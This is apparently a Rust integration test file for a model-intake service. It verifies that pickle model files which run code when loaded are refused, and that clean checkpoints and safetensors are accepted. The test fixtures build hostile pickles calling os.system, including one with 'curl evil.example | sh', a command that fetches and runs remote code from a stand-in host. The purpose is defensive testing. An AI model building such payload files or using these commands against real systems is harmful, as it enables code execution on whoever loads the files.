//! Black-box: model files that run code when loaded are refused, whether uploaded or imported
//! (from a URL, Hugging Face or Civitai, through the local fakes); clean checkpoints become
//! models that report what their pickles import; `intake models scan` lists the stored models
//! that today's rules refuse.

use crate::common;

use common::hubs::{sha256_hex, FakeCivitai, FakeHf};
use common::origin::Origin;
use common::{backend, media, pickles, send, TestServer};
use intake_core::import::AddressPolicy;
use intake_core::validate::PicklePolicy;
use reqwest::Method;
use serde_json::{json, Value};
use std::time::Duration;

const OS_SYSTEM: &str = "the file imports os.system, which runs a program when the file is loaded; \
                         only tensors, storages and standard containers are accepted";

/// A pickle that imports `mymodule.Helper` (on no list) and calls it.
const HELPER: &[u8] = b"\x80\x02cmymodule\nHelper\n)R.";

async fn model_of(server: &TestServer, upload: &Value) -> Value {
    assert_eq!(upload["status"], "imported", "{upload}");
    let (status, body) =
        send(server.alice(Method::GET, &format!("/v1/models/{}", upload["entityId"].as_str().unwrap()))).await;
    assert_eq!(status, 200, "{body}");
    body["model"].clone()
}

fn assert_refused(upload: &Value, file_name: &str, reason: &str) {
    assert_eq!(upload["status"], "failed", "{upload}");
    assert_eq!(upload["errorMessage"], format!("{file_name} was refused: {reason}"), "{upload}");
}

#[tokio::test]
async fn an_upload_that_runs_a_program_when_loaded_fails_and_a_clean_checkpoint_becomes_a_model() {
    let server = TestServer::start_manual(|_| {}).await;
    let evil = pickles::call("os", "system", "echo pwned");
    let kind = "model";
    let octets = "application/octet-stream";

    assert_refused(&server.upload_and_wait("evil.pkl", octets, &evil, kind).await, "evil.pkl", OS_SYSTEM);
    let poisoned = pickles::torch_zip(&evil, &[]);
    assert_refused(&server.upload_and_wait("poisoned.pt", octets, &poisoned, kind).await, "poisoned.pt", OS_SYSTEM);
    let second = pickles::torch_zip(&pickles::state_dict(), &[("archive/extra.pkl", &evil)]);
    assert_refused(&server.upload_and_wait("second.pt", octets, &second, kind).await, "second.pt", OS_SYSTEM);

    let clean = pickles::torch_zip(&pickles::state_dict(), &[]);
    let model = model_of(&server, &server.upload_and_wait("clean.pt", octets, &clean, kind).await).await;
    let imports = pickles::STATE_DICT_IMPORTS;
    assert_eq!(
        model["properties"],
        json!({"format": "pytorch", "pickleImports": imports, "sha256": sha256_hex(&clean)})
    );
    let bare_file = pickles::state_dict();
    let bare = model_of(&server, &server.upload_and_wait("old.ckpt", octets, &bare_file, kind).await).await;
    assert_eq!(
        bare["properties"],
        json!({"format": "pickle", "pickleImports": imports, "sha256": sha256_hex(&bare_file)})
    );
    let lora = media::safetensors();
    let st = model_of(&server, &server.upload_and_wait("lora.safetensors", octets, &lora, kind).await).await;
    assert_eq!(st["properties"], json!({"format": "safetensors", "sha256": sha256_hex(&lora)}));
    // Through the SDK too: the extension field parses.
    let typed = server.client.get_model(st["id"].as_str().unwrap()).await.unwrap();
    assert_eq!(typed.properties.unwrap().format.as_deref(), Some("safetensors"));

    // An asset may be any file: the same pickle is stored, never judged as a model.
    let asset = server.upload_and_wait("evil.pkl", octets, &evil, "asset").await;
    assert_eq!(asset["status"], "imported", "{asset}");
}

#[tokio::test]
async fn the_operator_may_allow_an_import_by_name_but_never_one_that_runs_programs() {
    let (policy, ignored) = PicklePolicy::with_extra(["mymodule.Helper", "os.system"]).unwrap();
    assert_eq!(ignored.iter().map(|(entry, _)| entry.as_str()).collect::<Vec<_>>(), ["os.system"]);
    let server = TestServer::start_manual(|c| c.pickle_policy = policy).await;
    let octets = "application/octet-stream";
    let model = model_of(&server, &server.upload_and_wait("helper.pkl", octets, HELPER, "model").await).await;
    assert_eq!(model["properties"]["pickleImports"], json!(["mymodule.Helper"]));
    let evil = pickles::call("os", "system", "id");
    assert_refused(&server.upload_and_wait("evil.pkl", octets, &evil, "model").await, "evil.pkl", OS_SYSTEM);

    let default = TestServer::start_manual(|_| {}).await;
    let done = default.upload_and_wait("helper.pkl", octets, HELPER, "model").await;
    assert_refused(
        &done,
        "helper.pkl",
        "the file imports mymodule.Helper, which intake does not know to be safe: loading the file imports it and \
         may call it; only tensors, storages and standard containers are accepted (save the weights as \
         safetensors, or with torch.save(model.state_dict()) rather than the whole model)",
    );
}

#[tokio::test]
async fn url_hugging_face_and_civitai_imports_go_through_the_same_reader() {
    let evil = pickles::call("os", "system", "curl evil.example | sh");
    let clean = pickles::torch_zip(&pickles::state_dict(), &[]);
    let origin = Origin::start().await;
    let hf = FakeHf::start(None).await;
    hf.repo("tester/poisoned", vec![("README.md", b"# hi".to_vec()), ("model.ckpt", evil.clone())], false);
    hf.repo("tester/clean", vec![("pytorch_model.bin", clean.clone())], false);
    let civitai = FakeCivitai::start(None).await;
    civitai.model(7, "Poison", vec![(70, "poison.ckpt", evil.clone())]);
    civitai.model(8, "Clean", vec![(80, "clean.pt", clean.clone())]);
    let (hf_base, civitai_base) = (hf.base.clone(), civitai.base.clone());
    let server = TestServer::start_with(move |c| {
        c.import.addresses = AddressPolicy { allow_private: true, allowed: vec![] };
        c.import.read_timeout = Duration::from_secs(5);
        c.import.hf_endpoint = hf_base;
        c.import.civitai_endpoint = civitai_base;
    })
    .await;
    let import = |body: Value| {
        let server = &server;
        async move {
            let (status, created) = server.create(body).await;
            assert_eq!(status, 200, "{created}");
            server.wait_terminal(created["upload"]["id"].as_str().unwrap()).await
        }
    };

    let url = origin.file("/files/evil.ckpt", evil.clone(), "application/octet-stream");
    assert_refused(&import(json!({"url": url, "kind": "model"})).await, "evil.ckpt", OS_SYSTEM);
    let url = origin.file("/files/clean.pt", clean.clone(), "application/octet-stream");
    let model = model_of(&server, &import(json!({"url": url, "kind": "model"})).await).await;
    assert_eq!(model["properties"]["pickleImports"], json!(pickles::STATE_DICT_IMPORTS));

    let done = import(json!({"huggingFaceModelName": "tester/poisoned"})).await;
    assert_refused(&done, "model.ckpt", OS_SYSTEM);
    let model = model_of(&server, &import(json!({"huggingFaceModelName": "tester/clean"})).await).await;
    assert_eq!(model["source"], "huggingface");
    assert_eq!(model["properties"]["pickleImports"], json!(pickles::STATE_DICT_IMPORTS));

    let done = import(json!({"civitaiModelUrl": "https://civitai.com/models/7"})).await;
    assert_refused(&done, "poison.ckpt", OS_SYSTEM);
    let model = model_of(&server, &import(json!({"civitaiModelUrl": "https://civitai.com/models/8"})).await).await;
    assert_eq!(model["source"], "civitai");
    assert_eq!(model["properties"]["format"], "pytorch");
}

/// `intake models scan --json <extra>` against the stores of `server`'s data directory:
/// (exit status, stdout, stderr).
async fn scan_raw(server: &TestServer, extra: &[&str]) -> (i32, String, String) {
    let data_dir = server.data_dir.path();
    let output = tokio::process::Command::new(env!("CARGO_BIN_EXE_intake"))
        .args(["models", "scan", "--json", "--data-dir"])
        .arg(data_dir)
        .args(extra)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("NO_PROXY", "127.0.0.1,localhost")
        .envs(backend::process_env(data_dir))
        .kill_on_drop(true)
        .output()
        .await
        .unwrap();
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    (output.status.code().unwrap(), text(&output.stdout), text(&output.stderr))
}

/// Like [`scan_raw`], with the JSON report parsed.
async fn scan(server: &TestServer, extra: &[&str]) -> (i32, Value, String) {
    let (code, stdout, stderr) = scan_raw(server, extra).await;
    let report = serde_json::from_str(&stdout).unwrap_or_else(|e| panic!("{e}: {stdout:?}; stderr: {stderr}"));
    (code, report, stderr)
}

#[tokio::test]
async fn models_scan_lists_the_stored_models_that_todays_rules_refuse() {
    let (policy, _) = PicklePolicy::with_extra(["mymodule.Helper"]).unwrap();
    let mut server = TestServer::start_with(|c| c.pickle_policy = policy).await;
    let octets = "application/octet-stream";
    let helper = server.upload_and_wait("helper.pkl", octets, HELPER, "model").await;
    let helper_id = model_of(&server, &helper).await["id"].as_str().unwrap().to_string();
    let clean = pickles::torch_zip(&pickles::state_dict(), &[]);
    model_of(&server, &server.upload_and_wait("clean.pt", octets, &clean, "model").await).await;
    model_of(&server, &server.upload_and_wait("lora.safetensors", octets, &media::safetensors(), "model").await).await;
    server.stop().await;

    let (code, report, stderr) = scan(&server, &[]).await;
    assert_eq!(code, 1, "{report} {stderr}");
    assert_eq!((report["scanned"].as_u64(), report["skipped"].as_u64()), (Some(2), Some(1)), "{report}");
    let refused = report["refused"].as_array().unwrap();
    assert_eq!(refused.len(), 1, "{report}");
    assert_eq!(refused[0]["modelId"], helper_id.as_str());
    assert_eq!(refused[0]["projectId"], "proj_a");
    assert_eq!(refused[0]["fileName"], "helper.pkl");
    assert_eq!(refused[0]["refusedImports"], json!(["mymodule.Helper"]));
    assert!(refused[0]["reason"].as_str().unwrap().starts_with("the file imports mymodule.Helper"), "{report}");

    // With the rule that let it in, nothing is refused.
    let (code, report, stderr) = scan(&server, &["--pickle-allow", "mymodule.Helper"]).await;
    assert_eq!((code, report["refused"].as_array().map(Vec::len)), (0, Some(0)), "{report} {stderr}");
    let (code, _, stderr) = scan_raw(&server, &["--pickle-allow", "mymodule.*"]).await;
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("wildcard"), "{stderr}");
}
